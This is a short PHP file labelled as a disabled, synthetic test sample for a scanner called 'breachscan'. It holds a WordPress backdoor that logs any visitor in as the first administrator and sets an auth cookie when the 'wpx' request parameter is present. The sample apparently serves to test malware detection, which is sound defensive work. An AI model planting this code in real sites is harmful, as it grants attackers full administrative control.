<?php
// synthetic test sample for breachscan: WordPress backdoor logging the visitor in as the
// first administrator when a request parameter is present. Disabled.
return;
if (isset($_GET['wpx'])) {
    $admins = get_users(array('role' => 'administrator'));
    wp_set_current_user($admins[0]->ID);
    wp_set_auth_cookie($admins[0]->ID);
}
